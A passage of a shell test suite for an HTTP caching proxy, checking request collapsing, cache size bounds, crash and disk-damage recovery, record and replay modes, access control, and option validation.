	start -r ":$origin" -C store
	crowd_of 1
	wait_for all_have half 1 1
	is "$(fetch -d x "$url/")" changed
	touch go
	crowd_ends
	is "$(fetch "$url/")" new
}

test_what_was_being_fetched_when_it_was_purged_is_not_used_afterwards() {
	origin head "$(answer max-age=100 01234 10)" wait:go send:56789 head "$(answer max-age=100 new)" -- head "$(answer max-age=100 new)"
	start -r ":$origin" -C store
	crowd_of 1
	wait_for all_have half 1 1
	ask -X PURGE "$url/" >/dev/null
	touch go
	crowd_ends
	is "$(fetch "$url/")" new
}

test_what_was_changed_is_never_served_as_it_was_before() {
	crowd_origin
	for w in 1 2; do
		start -r ":$origin" -C "store.$w" -w $w
		crowd change "$port" 2 >said.change 2>&1
		like "$(tail -n 1 said.change)" '^[1-9][0-9]* right 0 wrong 0 broken [1-9][0-9]* hits' "with $w workers: $(tail -n 4 said.change)"
	done
}

test_requests_that_follow_at_once_find_what_the_last_octet_ended() {
	origin head "$(answer max-age=100 0123456789)" again
	start -r ":$origin" -C store
	one='GET /a HTTP/1.1\r\nHost: a\r\n\r\n'
	talk "$port" "send:$one$one${one}HEAD /a HTTP/1.1\r\nHost: a\r\n\r\nGET /a HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" rest >got || fail 'no answers'
	is "$(grep -o 0123456789 got | wc -l | tr -d ' ')" 4 'whole answers'
	is "$(grep -c '^Cache-Status: proxy; hit' got)" 4 'hits'
	is "$(asked)" 1 'questions to the origin'
}

test_a_hit_is_for_clients_of_http_1_0_too() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n01234\r\n5\r\n56789\r\n0\r\n\r\n' again
	start -r ":$origin" -C store
	for i in 1 2; do
		talk "$port" 'send:GET / HTTP/1.0\r\nHost: a\r\n\r\n' rest >got || fail 'no answer'
		is "$(tail -c 10 got)" 0123456789
		hasnt "$(tr A-Z a-z <got)" transfer-encoding
	done
	is "$(asked)" 1 'questions to the origin'
}

test_a_hit_waits_for_a_slow_reader_alone() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 9000000\r\n\r\n' pour:9000000 rest
	start -r ":$origin" -C store
	clients=''
	is "$(fetch -o body -w '%{size_download}' "$url/")" 9000000
	for i in 1 2 3 4 5; do
		talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head "touch:slow.$i" wait:go sink:9000000 >/dev/null 2>"fate.$i" &
		clients="$clients $!"
	done
	wait_for all_have slow 1 5 || fail 'no answers'
	is "$(fetch -o body -w '%{size_download}' "$url/")" 9000000
	touch go
	crowd_ends
	is "$(asked)" 1 'questions to the origin'
}

# ---- the cache: bounds ----

test_the_size_of_a_cache_is_kept() {
	crowd_origin
	start -r ":$origin" -C store,size=1M,object=300k
	i=0
	while [ $i -lt 120 ]; do
		has "$(crowd each "$port" $i $((i + 8)))" '8 right 0 wrong 0 broken'
		size=$(octets_in store)
		[ "$size" -le 1048576 ] || fail "$size octets in a cache of a mebibyte"
		i=$((i + 8))
	done
	[ "$size" -ge 500000 ] || fail "only $size octets in a cache of a mebibyte"
	has "$(crowd each "$port" 112 120)" '8 right 0 wrong 0 broken 8 hits' 'the last ones'
	stop
	start -r ":$origin" -C store,size=200k
	wait_for eval '[ "$(octets_in store)" -le 204800 ]' || fail "$(octets_in store) octets in a cache that is smaller now"
	has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken'
	size=$(octets_in store)
	[ "$size" -le 204800 ] || fail "$size octets in a cache of 200 kibibytes"
}

test_what_is_asked_for_often_is_not_evicted_by_what_is_asked_for_once() {
	crowd_origin
	start -r ":$origin" -C store,size=1M
	i=100
	while [ $i -lt 140 ]; do
		crowd each "$port" 3 5 >/dev/null
		has "$(crowd each "$port" $i $((i + 4)))" '4 right 0 wrong'
		i=$((i + 4))
	done
	has "$(crowd each "$port" 3 5)" '2 right 0 wrong 0 broken 2 hits' 'the popular ones'
}

test_an_object_beyond_the_bound_is_not_stored() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 20000\r\n\r\n' pour:20000 again
	start -r ":$origin" -C store,object=10k
	for i in 1 2; do is "$(fetch -o body -w '%{size_download}' "$url/")" 20000; done
	is "$(asked)" 2 'questions to the origin'
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n4e20\r\n' pour:20000 'send:\r\n0\r\n\r\n' again
	start -r ":$origin" -C store2,object=10k
	for i in 1 2; do is "$(fetch -o body -w '%{size_download}' "$url/")" 20000; done
	is "$(asked)" 2 'questions to the origin, chunked'
	is "$(find store store2 -path '*/??/*' -type f)" ''
	is "$(find store/tmp store2/tmp -type f 2>/dev/null)" '' 'temporary files'
}

test_an_object_beyond_the_bound_is_served_to_all_who_wait() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n7d000\r\n' pour:256000 wait:go pour:256000 'send:\r\n0\r\n\r\n' rest
	start -r ":$origin" -C store,object=300k
	clients=''
	for i in 1 2 3 4; do
		fetch -o "body.$i" "$url/" &
		clients="$clients $!"
	done
	wait_for was_asked 1
	"$peer" nap 300
	touch go
	for client in $clients; do wait "$client" || fail 'a client got no whole answer'; done
	for i in 1 2 3 4; do is "$(wc -c <"body.$i" | tr -d ' ')" 512000; done
	is "$(entries)" ''
}

test_a_large_object_is_served_from_the_store_unchanged() {
	need sha256sum
	crowd_origin
	head -c 20000000 /dev/urandom >big
	touch -d 2001-01-01 big
	python_origin "$PWD"
	start -r ":$origin" -C store
	want=$(sha256sum <big)
	for i in 1 2 3; do is "$(fetch "$url/big" | sha256sum)" "$want"; done
	ask "$url/big" >/dev/null
	like "$(status)" '^proxy; hit'
	is "$(fetch -r 9999990-10000010 "$url/big" | sha256sum)" "$(tail -c +9999991 big | head -c 21 | sha256sum)" 'a range'
	stop
	start -r ":$origin" -C store
	is "$(fetch "$url/big" | sha256sum)" "$want" 'after a restart'
	sanitized || ! [ -r /proc/self/status ] || [ "$(memory "$pid")" -lt 40000 ] || fail "$(memory "$pid") KiB of memory"
}

test_a_large_object_that_is_still_good_is_not_copied() {
	need sha256sum
	head -c 5000000 /dev/urandom >big
	touch -d 2001-01-01 big
	python_origin "$PWD"
	start_logged --log-format '%{cache}x' -r ":$origin" -C store
	want=$(sha256sum <big)
	is "$(fetch "$url/big" | sha256sum)" "$want"
	file=$(entries)
	was=$(ls -i "$file" | cut -d ' ' -f 1)
	is "$(fetch -H 'Cache-Control: max-age=0' "$url/big" | sha256sum)" "$want" 'validated'
	wait_for lines_in 2 log
	is "$(tail -n 1 log)" revalidated
	is "$(ls -i "$file" | cut -d ' ' -f 1)" "$was" 'the file'
	is "$(fetch "$url/big" | sha256sum)" "$want" 'after that'
	stop
	start_logged --log-format '%{cache}x' -r ":$origin" -C store
	for i in 1 2 3 4; do
		get -o "body.$i" "$url/big" &
		clients="${clients-} $!"
	done
	for client in $clients; do wait "$client" || fail 'a client got no whole answer'; done
	for i in 1 2 3 4; do is "$(sha256sum <"body.$i")" "$want" 'while it is read through'; done
	stop
	was=$(dd if="$file" bs=1 skip=4000000 count=1 2>/dev/null | od -An -tu1 | tr -d ' ')
	[ "$was" = 88 ] && other=Y || other=X
	printf $other | dd of="$file" bs=1 seek=4000000 conv=notrunc 2>/dev/null
	start_logged --log-format '%{cache}x' -r ":$origin" -C store
	is "$(fetch "$url/big" | sha256sum)" "$want" 'when it is damaged'
	wait_for lines_in 8 log || fail "$(cat log)"
	is "$(tail -n 1 log)" miss
}

test_an_object_of_a_slow_reader_is_evicted_and_still_whole() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 9000000\r\n\r\n' pour:9000000 again
	start -r ":$origin" -C store,size=20M
	is "$(fetch -o body -w '%{size_download}' "$url/a")" 9000000
	talk "$port" 'send:GET /a HTTP/1.1\r\nHost: cache.example\r\n\r\n' head touch:began wait:go sink:9000000 >/dev/null 2>&1 &
	reader=$!
	wait_for test -e began
	for i in 1 2 3 4 5; do is "$(fetch -o body -w '%{size_download}' "$url/$i")" 9000000; done
	touch go
	wait "$reader" || fail 'the reader did not get it whole'
}

test_a_full_disk_stops_storing_never_serving() {
	[ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null || skip 'needs root and unshare'
	crowd_origin
	mkdir store
	printf 'mount -t tmpfs -o size=400k,mode=700 none "$1" && shift && exec "$@"\n' >full.sh
	wrap="unshare -m sh $PWD/full.sh $PWD/store"
	may_say '^proxy: .*(store|space|full)'
	start -r ":$origin" -C store,size=1G
	for i in 1 2 3; do has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken'; done
	has "$(crowd each "$port" 2 3)" '1 right 0 wrong 0 broken'
	[ ! -d "/proc/$pid/root" ] || is "$(find "/proc/$pid/root$PWD/store/tmp" -type f 2>/dev/null)" '' 'temporary files'
	[ "$(wc -l <"err.$n")" -le 3 ] || fail "it says so $(wc -l <"err.$n") times"
}

test_a_directory_that_cannot_be_written_any_more_stops_storing_never_serving() {
	crowd_origin
	start -r ":$origin" -C store
	has "$(crowd each "$port" 0 8)" '8 right 0 wrong 0 broken'
	may_say '^proxy: .*store'
	rm -rf store
	has "$(crowd each "$port" 0 24)" '24 right 0 wrong 0 broken'
}

# ---- the cache: nothing breaks it ----

test_a_cache_killed_at_any_moment_is_never_wrong() {
	crowd_origin
	rounds=${slow:+100}
	: "${rounds:=8}"
	i=0
	while [ $i -lt $rounds ]; do
		start -r ":$origin" -C store,size=2M
		crowd load "$port" 60 $i >said.load 2>&1 &
		load=$!
		"$peer" nap $((20 + $(od -An -N2 -tu2 /dev/urandom) % 600))
		kill -STOP "$pid"
		size=$(octets_in store)
		cut_off
		wait $load
		like "$(tail -n 1 said.load)" ' 0 wrong ' "round $i: $(cat said.load)"
		[ "$size" -le 2097152 ] || fail "round $i: $size octets in a cache of 2 MiB"
		i=$((i + 1))
	done
	start -r ":$origin" -C store,size=2M
	has "$(crowd each "$port" 0 60)" '60 right 0 wrong 0 broken'
	is "$(find store/tmp -type f | wc -l | tr -d ' ')" 0 'temporary files'
	size=$(octets_in store)
	[ "$size" -le 2097152 ] || fail "$size octets in a cache of 2 MiB"
}

test_a_worker_killed_at_any_moment_leaves_the_cache_right() {
	need_proc
	crowd_origin
	may_say '^proxy: worker'
	start -r ":$origin" -C store,size=2M -w 2
	crowd load "$port" 60 1 >said.load 2>&1 &
	load=$!
	for i in 1 2 3 4 5; do
		"$peer" nap $((50 + $(od -An -N1 -tu1 /dev/urandom)))
		victim=$(tree "$pid" | sed -n 2p)
		[ -z "$victim" ] || kill -KILL "$victim"
	done
	"$peer" nap 100
	has "$(crowd each "$port" 0 60)" ' 0 wrong '
	kill -TERM "$pid"
	exits 0
	wait $load
	like "$(tail -n 1 said.load)" ' 0 wrong ' "under load: $(cat said.load)"
	start -r ":$origin" -C store,size=2M
	has "$(crowd each "$port" 0 60)" '60 right 0 wrong 0 broken'
	is "$(find store/tmp -type f | wc -l | tr -d ' ')" 0 'temporary files'
}

test_entries_damaged_on_disk_are_never_served() {
	crowd_origin
	start -r ":$origin" -C store
	has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken 0 hits'
	has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken 64 hits'
	stop
	may_say '^proxy: .*store'
	rounds=${slow:+50}
	: "${rounds:=4}"
	i=0
	while [ $i -lt $rounds ]; do
		crowd damage store $i$$ >damaged
		start -r ":$origin" -C store
		said=$(crowd each "$port" 0 64)
		like "$said" '^64 right 0 wrong 0 broken' "round $i"
		has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken 64 hits' "round $i, then"
		stop
		i=$((i + 1))
	done
}

test_entries_damaged_while_it_runs_are_never_served_as_whole() {
	crowd_origin
	start -r ":$origin" -C store
	has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken'
	may_say '^proxy: .*store'
	for entry in $(entries); do : >"$entry"; done
	has "$(crowd each "$port" 0 64)" ' 0 wrong ' 'emptied'
	stop
	start -r ":$origin" -C store
	has "$(crowd each "$port" 0 64)" '64 right 0 wrong 0 broken' 'emptied, after a restart'
}

test_a_file_under_another_ones_name_is_not_served_for_it() {
	crowd_origin
	start -r ":$origin" -C store
	has "$(crowd each "$port" 2 4)" '2 right 0 wrong 0 broken'
	stop
	may_say '^proxy: .*store'
	two=$(entries | sed -n 1p) three=$(entries | sed -n 2p)
	mv "$two" aside && mv "$three" "$two" && mv aside "$three"
	start -r ":$origin" -C store
	has "$(crowd each "$port" 2 4)" '2 right 0 wrong 0 broken 0 hits'
}

test_many_entries_do_not_delay_the_first_answer() {
	crowd_origin
	count=${slow:+300000}
	: "${count:=2000}"
	start -r ":$origin" -C store,size=100G
	[ ! -r /proc/self/status ] || empty=$(memory "$pid")
	i=0 clients=''
	while [ $i -lt 4 ]; do
		crowd each "$port" $((i * count * 2 + 1)) $(((i + 1) * count * 2)) 8 >"said.crowd.$i" &
		clients="$clients $!"
		i=$((i + 1))
	done
	for client in $clients; do wait "$client"; done
	hasnt "$(cat said.crowd.*)" 'wrong:'
	stop
	began=$(python3 -c 'import time; print(int(time.time() * 1000))')
	start -r ":$origin" -C store,size=100G
	is "$(get -H 'Host: crowd.example' -o body -w '%{http_code}' "$url/1")" 200
	took=$(($(python3 -c 'import time; print(int(time.time() * 1000))') - began))
	sanitized || [ $took -lt 1000 ] || fail "the first answer took $took ms"
	at=1
	found() { at=$((at + 512)); crowd each "$port" $at $((at + 512)) 8 | grep -q '^64 right 0 wrong 0 broken 64 hits'; }
	wait_for found || fail 'they are not found again'
	[ "$slow" = '' ] || [ ! -r /proc/self/status ] || [ $((($(memory "$pid") - empty) * 1024 / count)) -lt 64 ] ||
		fail "$(memory "$pid") KiB with $count entries, $empty with none"
}

# ---- the cache: record, replay, fill ----

test_record_always_asks_and_stores_whatever_is_said() {
	origin head "$(answer no-store one)" head "$(answer no-store two)" head "$(answer private three)"
	start -r ":$origin" -C store,mode=record
	is "$(fetch "$url/a")" one
	is "$(fetch "$url/a")" two
	is "$(fetch -d q "$url/a")" three
	is "$(asked)" 3 'questions to the origin'
	stop
	kill -KILL "$helper"
	start -r ":$origin" -C store,mode=replay
	is "$(fetch "$url/a")" two
	is "$(fetch -d q "$url/a")" three
	is "$(ask -d other "$url/a")" 504
	is "$(ask "$url/b")" 504
	is "$(ask -X DELETE "$url/a")" 504
}

test_replay_serves_what_is_stale_and_asks_nobody() {
	origin head "$(answer 'max-age=1' one)"
	start -r ":$origin" -C store,mode=record
	is "$(fetch "$url/a")" one
	stop
	origin head "$(answer no-store new)" again
	"$peer" nap 2100
	start -r ":$origin" -C store,mode=replay
	is "$(fetch "$url/a")" one
	is "$(fetch -H 'Cache-Control: no-cache' "$url/a")" one
	is "$(ask "$url/b")" 504
	is "$(asked)" 0 'questions to the origin'
}

test_record_keeps_statuses_and_fields() {
	origin head 'send:HTTP/1.1 503 Down\r\nX-A: 1\r\nSet-Cookie: a=b\r\nContent-Length: 4\r\n\r\ndown' head 'send:HTTP/1.1 302 Found\r\nLocation: /x\r\nContent-Length: 0\r\n\r\n'
	start -r ":$origin" -C store,mode=record
	is "$(ask "$url/a")" 503
	is "$(ask -X PUT -d x "$url/b")" 302
	stop
	start -r ":$origin" -C store,mode=replay
	is "$(ask "$url/a")" 503
	is "$(cat body) $(header X-A) $(header Set-Cookie)" 'down 1 a=b'
	is "$(ask -X PUT -d x "$url/b")" 302
	is "$(header Location)" /x
}

test_fill_asks_once_for_each() {
	origin head "$(answer no-store one)" head "$(answer no-store two)" head "$(answer no-store three)"
	start -r ":$origin" -C store,mode=fill
	for i in 1 2 3; do
		is "$(fetch "$url/a")" one
		is "$(fetch -d q "$url/a")" two
		is "$(fetch -d r "$url/a")" three
	done
	is "$(asked)" 3 'questions to the origin'
	stop
	start -r ":$origin" -C store,mode=fill
	is "$(fetch -d q "$url/a")" two
	is "$(asked)" 3 'questions after a restart'
}

test_record_and_replay_in_forward_mode() {
	origin head "$(answer no-store one)"
	start -C store,mode=record
	is "$(get -x "$url" "http://127.0.0.1:$origin/a")" one
	stop
	kill -KILL "$helper"
	start -C store,mode=replay
	is "$(get -x "$url" "http://127.0.0.1:$origin/a")" one
	is "$(code -x "$url" "http://127.0.0.1:$origin/b")" 504
}

test_a_recording_is_only_read_when_it_is_replayed() {
	origin head "$(answer no-store one)" head "$(answer no-store two)"
	start -r ":$origin" -C tape,mode=record
	is "$(fetch "$url/a")" one
	is "$(get -d q "$url/a")" two
	stop
	[ "$(id -u)" = 0 ] || chmod -R a-w tape
	before=$(cd tape && find . -type f -exec cksum {} + | sort)
	start -r 127.0.0.1:9 -C tape,mode=replay
	first=$url
	start -r 127.0.0.1:9 -C tape,mode=replay
	is "$(fetch "$url/a")" one 'on another port'
	is "$(get -d q "$first/a")" two 'two programs at once'
	is "$(code -d r "$url/a")" 504 'other content'
	is "$(cd tape && find . -type f -exec cksum {} + | sort)" "$before" 'the recording'
	chmod -R u+w tape
}

test_replay_asks_nobody_by_a_tunnel() {
	mkdir tape
	printf '1\n' >tape/proxy-cache
	origin head "$(answer no-store one)"
	start_logged --log-format '%>s %{why}x' -C tape,mode=replay
	is "$(connect_code -x "$url" "http://127.0.0.1:$origin/" || :)" 504
	wait_for lines_in 1 log
	is "$(cat log)" '504 not-recorded'
	is "$(asked)" 0 'questions to the origin'
}

test_an_edited_recording_is_named_and_kept() {
	origin head "$(answer no-store one)"
	start -r ":$origin" -C store,mode=record
	is "$(fetch "$url/a")" one
	stop
	file=$(entries)
	printf two | dd of="$file" bs=1 seek="$(($(wc -c <"$file") - 3))" conv=notrunc 2>/dev/null
	may_say "^proxy: -C store: ${file#store/} is damaged"
	start -r ":$origin" -C store,mode=replay
	is "$(code "$url/a")" 504
	wait_for grep -q "${file#store/} is damaged" "err.$n"
	is "$(entries)" "$file"
}

test_replay_of_nothing_is_an_error() {
	mkdir tape
	for dir in tape tpae; do
		try -l 0 -r :9 -C $dir,mode=replay
		is "$status" 1
		like "$err" "^proxy: -C $dir: .*(no recording|No such)"
	done
	[ ! -e tpae ] || fail 'it was made'
}

test_a_recording_answers_nobody_without_mode() {
	origin head "$(answer 'private, max-age=1000' one)" -- head "$(answer no-store two)"
	start -r ":$origin" -C store,mode=record
	is "$(fetch "$url/a")" one
	stop
	start -r ":$origin" -C store
	is "$(fetch "$url/a")" two
}

test_a_reader_that_lingers_reads_no_more_of_what_grows() {
	origin head "$(answer max-age=100 01234 10)" wait:go send:56789
	start -r ":$origin" -C store
	crowd_of 1
	wait_for all_have half 1 1
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\nRange: bytes=0-0\r\nConnection: close\r\n\r\nmore' rest >lingers
	has "$(cat lingers)" ' 206 '
	touch go
	crowd_ends
	is "$(fetch "$url/")" 0123456789
}

test_early_hints_do_not_end_the_waiting_for_one_fetch() {
	origin head 'send:HTTP/1.1 103 E\r\nLink: </a>; rel=preload\r\n\r\n' touch:hinted wait:go "$(answer max-age=100 0123456789)" again
	start -r ":$origin" -C store
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' rest >first 2>&1 &
	helpers="$helpers $!"
	wait_for test -e hinted
	crowd_of 4
	"$peer" nap 200
	touch go
	crowd_ends
	is "$(asked)" 1 'questions to the origin'
}

test_who_waits_for_a_name_does_not_wait_for_itself() {
	origin head "$(answer max-age=100 one)"
	start -f -a to:127.0.0.1 -x 10.0.0.0/8=http://127.0.0.1:1 -C store
	is "$(get -x "$url" "http://localhost:$origin/a")" one
}

test_vary_by_what_we_write_is_not_stored() {
	origin head "$(answer 'max-age=100\r\nVary: X-Forwarded-For' one)" head "$(answer 'max-age=100\r\nVary: X-Forwarded-For' two)"
	start -r ":$origin" -C store
	is "$(fetch "$url/a")$(fetch "$url/a")" onetwo
}

test_a_directory_of_a_cache_leads_nowhere_else() {
	[ "$(id -u)" = 0 ] || skip 'needs root'
	mkdir store victim
	touch victim/file
	printf '1\n' >store/proxy-cache
	ln -s ../victim store/tmp
	chown -h 65534:65534 store store/tmp store/proxy-cache
	chmod 755 . store
	try -U 65534:65534 -l 0 -r :9 -C store
	[ -e victim/file ] || fail 'it was emptied'
	is "$(ls -ldn victim | awk '{ print $3 }')" 0 'its owner'
	rm -r store
	mkdir -m 777 store
	may_say '^proxy: -C store: others may write there'
	start -r :9 -C store
	has "$(cat "err.$n")" 'others may write there'
}

test_replay_asks_nobody_whatever_is_asked() {
	mkdir tape
	printf '1\n' >tape/proxy-cache
	origin head "$(answer no-store one)" again
	start -r ":$origin" -C tape,mode=replay
	is "$(code -X TRACE "$url/")" 504 TRACE
	is "$(code -H 'Connection: upgrade' -H 'Upgrade: websocket' "$url/")" 504 upgrade
	start -f -a to:127.0.0.1 -C tape,mode=replay
	is "$(code --path-as-is -x "$url" "http://127.0.0.1:$origin/a/../x")" 504 'a path that is not plain'
	is "$(asked)" 0 'questions to the origin'
}

test_a_large_recording_that_was_edited_is_not_read_again_and_again() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 3000000\r\n\r\n' pour:3000000
	start -r ":$origin" -C store,mode=record
	is "$(fetch -o body -w '%{size_download}' "$url/a")" 3000000
	stop
	printf X | dd of="$(entries)" bs=1 seek=2000000 conv=notrunc 2>/dev/null
	may_say '^proxy: -C store: .* is damaged'
	start -r ":$origin" -C store,mode=replay
	for i in 1 2; do is "$(code "$url/a")" 504; done
	stop
}

test_a_part_that_cannot_be_completed_is_never_the_answer() {
	part='send:HTTP/1.1 206 P\r\nCache-Control: max-age=100\r\nETag: "a"\r\nContent-Range: bytes 0-4/10\r\nContent-Length: 5\r\n\r\n01234'
	rest='send:HTTP/1.1 206 P\r\nCache-Control: private, max-age=100\r\nETag: "a"\r\nContent-Range: bytes 5-9/10\r\nContent-Length: 5\r\n\r\n56789'
	whole='send:HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n0123456789'
	origin head "$part" head "$rest" -- head "$whole" -- head "$whole"
	start -r ":$origin" -C store
	is "$(fetch -r 0-4 "$url/a")" 01234
	is "$(fetch "$url/a")" 0123456789 'a rest that is private'
	is "$(entries)" ''
	stop
	origin head "$part" head -- head
	start -r ":$origin" -C store
	is "$(fetch -r 0-4 "$url/a")" 01234
	is "$(code "$url/a")" 502 'a server that fails'
	stop
	rm -rf store
	origin head "$part" head 'send:HTTP/1.1 416 R\r\nContent-Length: 0\r\n\r\n' -- head "$whole"
	start -r ":$origin" -C store
	is "$(fetch -r 0-4 "$url/a")" 01234
	is "$(fetch "$url/a")" 0123456789 'a server that has it shorter'
}

test_what_came_from_a_guarded_address_is_not_for_everybody() {
	[ "$(uname)" = Linux ] || skip "127.0.0.7 is an address of this machine on Linux"
	origin head "$(answer max-age=1000 inside)"
	start -l 0 -l :0 -a from:127.0.0.0/8 -C store
	ports=$(sed -n 's/^http.*:\([0-9]*\)$/\1/p' "out.$n")
	local=$(echo "$ports" | head -n 1) every=$(echo "$ports" | tail -n 1)
	is "$(get -x "http://127.0.0.1:$local" "http://127.0.0.1:$origin/a")" inside
	has "$(get -i -x "http://127.0.0.1:$local" "http://127.0.0.1:$origin/a")" 'proxy; hit'
	is "$(code -x "http://127.0.0.1:$every" "http://127.0.0.1:$origin/a")" 403 'through the listener for everybody'
}

test_what_is_stored_is_written_back_for_the_route_it_answers() {
	origin head 'send:HTTP/1.1 301 M\r\nCache-Control: max-age=1000\r\nLocation: /in/other\r\nContent-Length: 0\r\n\r\n' again
	for when in before after; do
		start -r "a.test=http://127.0.0.1:$origin/in" -r "b.test=http://127.0.0.1:$origin/in" -C store
		code -H 'Host: b.test' "$url/dir" >/dev/null
		is "$(header Location)" /other "$when a restart"
		stop
	done
	like "$(status)" '^proxy; hit'
}

test_what_a_trusted_peer_says_is_part_of_the_key() {
	origin head "$(answer max-age=1000 plain)" head "$(answer max-age=1000 secure)" head "$(answer max-age=1000 other)"
	start -r ":$origin" --trust 127.0.0.0/8 -C store
	for i in 1 2; do
		is "$(fetch -H 'X-Forwarded-Proto: http' "$url/a")" plain
		is "$(fetch -H 'X-Forwarded-Proto: https' "$url/a")" secure
		is "$(fetch -H 'X-Forwarded-Proto: https' -H 'X-Forwarded-Host: other.test' "$url/a")" other
	done
	is "$(asked)" 3
}

test_answers_without_content_hold_no_descriptor() {
	need_proc
	origin head 'send:HTTP/1.1 301 M\r\nCache-Control: max-age=1000\r\nLocation: /x\r\nContent-Length: 0\r\n\r\n' again
	start -r ":$origin" -C store
	worker=$(tree "$pid" | sed -n 2p)
	before=$(ls "/proc/$worker/fd" | wc -l)
	for i in 1 2 3 4 5 6 7 8 9 10 11 12; do get -o body "$url/$i"; done
	after=$(ls "/proc/$worker/fd" | wc -l)
	[ $((after - before)) -lt 6 ] || fail "$((after - before)) descriptors more"
}

test_a_killed_worker_gives_back_its_room() {
	need_proc
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=1000\r\nContent-Length: 900000\r\n\r\n' pour:800000 touch:half rest -- head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=1000\r\nContent-Length: 600000\r\n\r\n' pour:600000
	may_say '^proxy: worker'
	start -r ":$origin" -C store,size=1M,object=1M
	get -o body "$url/a" 2>/dev/null &
	client=$!
	wait_for test -e half
	full() { [ "$(octets_in store)" -ge 800000 ]; }
	wait_for full
	kill -KILL "$(tree "$pid" | sed -n 2p)"
	wait "$client" || :
	empty() { [ -z "$(find store/tmp -type f)" ]; }
	wait_for empty || fail "$(find store/tmp -type f)"
	is "$(fetch -o body -w '%{size_download}' "$url/b")" 600000
	stored 1 || fail 'there was no room'
}

test_a_reader_that_takes_nothing_is_cut_off_where_it_holds_up_others() {
	set --
	while [ $# -lt 120 ]; do set -- "$@" 'send:40000\r\n' pour:262144 'send:\r\n'; done
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=1000\r\nTransfer-Encoding: chunked\r\n\r\n' wait:go "$@" 'send:0\r\n\r\n'
	start -r ":$origin" -C store,object=100k
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head touch:here wait:never >/dev/null 2>&1 &
	helpers="$helpers $!"
	wait_for test -e here
	get -H 'Host: cache.example' -o body -w '%{size_download}' "$url/" >got &
	client=$!
	"$peer" nap 300
	touch go
	wait "$client" || fail 'it was held up'
	is "$(cat got)" 10485760
}

test_what_is_removed_while_it_runs_is_made_again() {
	origin head "$(answer max-age=100 one)" again
	start -r ":$origin" -C store
	is "$(fetch "$url/a")" one
	rm -r store/*
	is "$(fetch "$url/b")" one
	is "$(entries | wc -l | tr -d ' ')" 1 'files'
	try -l 0 -r ":$origin" -C store
	is "$status" 1
	has "$err" 'another program uses it'
}

# ---- the cache: real clients ----

test_a_browser_that_asks_again_gets_304_from_the_store() {
	need python3
	echo content >text
	touch -d '2001-01-01' text
	python_origin "$PWD"
	start -r ":$origin" -C store
	is "$(ask "$url/text")" 200
	modified=$(header Last-Modified)
	is "$(ask -H "If-Modified-Since: $modified" "$url/text")" 304
	like "$(status)" '^proxy; hit'
	is "$(ask -z text "$url/text")" 304
}

test_git_clones_over_http_through_a_caching_proxy() {
	need git python3
	git init -q --bare origin.git 2>/dev/null && git init -q work && (
		cd work && echo hello >file && git add file &&
			git -c user.name=a -c user.email=a@example.com commit -qm one && git push -q ../origin.git HEAD:refs/heads/main
	) || skip 'git does not work here'
	git -C origin.git symbolic-ref HEAD refs/heads/main
	git -C origin.git update-server-info
	python_origin "$PWD"
	start -C store
	for i in 1 2; do
		git -c http.proxy="$url" clone -q "http://127.0.0.1:$origin/origin.git" "copy.$i" 2>git.err || fail "clone $i: $(cat git.err)"
		is "$(cat "copy.$i/file")" hello
	done
	[ -n "$(entries)" ] || fail 'nothing is stored'
}

# ---- for scripts: -- COMMAND, -n, --expect, --dry-run, --probe ----

runs() {  # run proxy to its end, which may take 10 s; set status, out and err
	"$peer" alarm 10 "$PROXY" "$@" >ran.out 2>ran.err </dev/null
	status=$?
	out=$(cat ran.out) err=$(cat ran.err)
	hasnt "$err" Sanitizer
}

test_usage_errors_of_what_scripts_use_name_the_flag_too() {
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" "$@") || bad=1
	done <<-'END'
	--probe|--probe
	--probe nonsense|nonsense
	--probe ftp://h/|ftp
	--probe http://|http://
	--probe http://h:99999/|99999
	--probe http://h/ -l 0|--probe
	--probe http://h/ -r 200|--probe
	--probe http://h/ --dry-run|--probe
	--probe http://h/ --probe http://h/|--probe
	--dry-run=yes|--dry-run
	--|COMMAND
	-q --|COMMAND
	-D -- true|-D
	-n 1,idle=x|idle
	-n 1,idle|idle
	-n 1,nonsense=1|nonsense
	-n 1,idle=1,idle=2|idle
	-n x,idle=1|x
	-n ,|-n
	--expect 1|--expect
	--expect 1,|--expect
	--expect all|--expect
	--expect x,all|--expect
	--expect -1,all|-1,all
	--expect 3-2,all|3-2
	--expect 1-,all|1-
	--expect +,all|--expect
	--expect 99999999999999999999,all|99999999999999999999
	--expect 1,nonsense:x|nonsense:x
	--expect 1,10.0.0.1|from:.*to:
	--expect 1,status:99|status:99
	--expect 1,status:300-200|status:300-200
	--expect 1,status:x|status:x
	--expect 1,all -D|-D
	-r 200 -d status:200|status
	-r 200 -a status:200|status
	--log-format '%Q'|%Q
	--log-format '%{Host'|%{Host
	--log-format '%{nonsense}x'|nonsense
	--log-format '%{nonsense}T'|nonsense
	--log-format '%i'|%i
	--log-format '%m%'|--log-format
	--log-format ''|--log-format
